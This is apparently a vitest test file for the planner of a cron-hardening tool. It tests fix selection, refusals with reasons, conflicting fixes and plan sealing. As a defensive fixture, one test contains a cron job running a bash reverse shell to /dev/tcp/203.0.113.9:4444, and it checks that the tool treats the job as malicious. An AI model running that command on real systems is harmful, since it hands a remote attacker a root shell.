// What the planner selects, what it refuses and why, and how it settles fixes that disagree.

import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/types.js';
import { memoryHost } from '../../src/host/memory-host.js';
import { assemble, type Attempt } from '../../src/plan/assemble.js';
import { buildPlan, planContext } from '../../src/plan/planner.js';
import { scan } from '../../src/scan.js';
import { DEBIAN_ETC_CRONTAB, debianBase } from '../helpers/debian-base.js';
import { newText, planFor } from './helpers/plan-for.js';

const finding = (rule: string, path: string, line: number | null): Finding => ({ rule, severity: 'low', principle: 2, job: null, path, line, message: '', fixable: true });

describe('selection', () => {
  const files = { '/etc/cron.d/x': '* 3 * * * root /usr/bin/rsync -a /a /b\n*/5 * * * * root /usr/bin/rsync -a /c /d\n' };

  it('no selection: every auto fix, no suggestion', () => {
    const rules = new Set(planFor(files).plan.fixed.map((f) => f.rule));
    expect(rules.has('no-lock')).toBe(true);
    expect(rules.has('every-minute-by-mistake')).toBe(false);
  });

  it('--job takes that job only, suggestions included', () => {
    const { plan } = planFor(files, { jobs: ['etc-cron.d-x:1'] });
    expect(plan.fixed.every((f) => f.job === 'etc-cron.d-x:1')).toBe(true);
    expect(plan.fixed.map((f) => f.rule)).toContain('every-minute-by-mistake');
  });

  it('accepted suggestions are planned, others not', () => {
    const { plan } = planFor(files, { rules: ['every-minute-by-mistake'], acceptSuggestions: [] });
    expect(plan.fixed).toEqual([{ rule: 'every-minute-by-mistake', job: 'etc-cron.d-x:1', path: '/etc/cron.d/x', line: 1 }]);
    const accepted = planFor(files, { acceptSuggestions: [{ rule: 'every-minute-by-mistake', job: 'etc-cron.d-x:1', path: '/etc/cron.d/x', line: 1 }] }).plan;
    // The default fixes come too: root-job moves the job, with its new minute.
    expect(newText(accepted, '/etc/cron.d/cronwarden-x')).toMatch(/\n0 3 \* \* \* cw-x \{ \/usr\/bin\/flock -n \/run\/lock\/cronwarden-x\.lock /);
  });
});

describe('what is not fixed, and why', () => {
  it("the distribution's own /etc/crontab lines get an override proposal, not an edit", () => {
    const { plan } = planFor({ '/etc/crontab': DEBIAN_ETC_CRONTAB }, { rules: ['relative-command'] });
    expect(plan.operations).toEqual([]);
    expect(plan.unfixed[0]?.reason).toMatch(/shipped by the cron package: an edit would be undone.*Override instead: put `17 \*\t\* \* \*\troot\tcd \/ && \/usr\/bin\/run-parts --report \/etc\/cron.hourly` in a new file under \/etc\/cron.d/);
  });

  it('a job that looks like an intrusion is not hardened', () => {
    const { plan } = planFor({ '/etc/cron.d/x': "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n" }, { rules: ['no-lock', 'root-job'] });
    expect(plan.operations).toEqual([]);
    expect(plan.unfixed.map((u) => u.reason)).toEqual([expect.stringMatching(/looks malicious/), expect.stringMatching(/looks malicious/)]);
  });

  it('latent findings wait for their file to load', () => {
    const { plan } = planFor({ '/etc/cron.d/x.bak': '*/5 * * * * root /usr/bin/rsync -a /a /b\n' }, { rules: ['no-lock'] });
    expect(plan.unfixed[0]?.reason).toMatch(/cron ignores \/etc\/cron.d\/x.bak today.*fix that \(not-loaded\) first/);
  });

  it('removing cron.deny also creates cron.allow, so nobody gains access', () => {
    const { plan } = planFor({ '/etc/cron.deny': 'bob\n', '/var/spool/cron/crontabs/bob': { content: '0 3 * * * /usr/bin/true\n', mode: 0o600, uid: 1001, gid: 102 } }, { rules: ['cron-allow-missing'] });
    expect(plan.operations.map((o) => `${o.op} ${'path' in o ? o.path : ''}`)).toEqual(['write-file /etc/cron.allow', 'remove-file /etc/cron.deny']);
    expect(newText(plan, '/etc/cron.allow')).toBe('root\n');
  });
});

describe('fixes that disagree', () => {
  const host = memoryHost({ ...debianBase(), '/etc/cron.d/x': '0 3 * * * root /usr/bin/true\n' });
  const ctx = planContext(scan(host).ctx);
  const attempt = (f: Finding, changes: Attempt['changes']): Attempt => ({ finding: f, changes, checkByHand: [] });

  it('two owners for one path: the later fix is refused with a reason, the earlier stays', () => {
    const a = attempt(finding('cron-file-perms', '/etc/cron.d/x', null), [{ kind: 'attrs', path: '/etc/cron.d/x', owner: 'root', group: 'root', mode: 0o600 }]);
    const b = attempt(finding('spool-perms', '/etc/cron.d/x', null), [{ kind: 'attrs', path: '/etc/cron.d/x', owner: 'alice', group: 'alice' }]);
    const result = assemble([a, b], ctx);
    expect(result.fixed).toEqual([a]);
    expect(result.failed).toEqual([{ attempt: b, reason: expect.stringMatching(/different owner/) }]);
    expect(result.operations.map((o) => o.op)).toEqual(['chmod']);
  });

  it('two edits of one line field: refused; different fields of one line: one rewritten line', () => {
    const line = (minute: string) => attempt(finding('every-minute-by-mistake', '/etc/cron.d/x', 1), [{ kind: 'line', path: '/etc/cron.d/x', line: 1, patch: { minute } }]);
    expect(assemble([line('0'), line('5')], ctx).failed).toHaveLength(1);
    const lock = attempt(finding('no-lock', '/etc/cron.d/x', 1), [{ kind: 'line', path: '/etc/cron.d/x', line: 1, patch: { lock: { program: '/usr/bin/flock', file: '/run/lock/x.lock' } } }]);
    const result = assemble([line('5'), lock], ctx);
    expect(result.failed).toEqual([]);
    expect(result.operations).toHaveLength(1);
  });
});

it('the plan is sealed and records what it read', () => {
  const host = memoryHost({ ...debianBase(), '/etc/cron.d/x': '*/5 * * * * root /usr/bin/rsync -a /a /b\n' });
  const plan = buildPlan(scan(host), { toolVersion: 'test' });
  expect(plan.checksum).toMatch(/^[0-9a-f]{64}$/);
  expect(plan.fingerprints.find((f) => f.path === '/etc/cron.d/x')).toMatchObject({ mode: 0o644, uid: 0, gid: 0, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
  expect(plan.createdAt).toBe(host.now().toISOString());
});
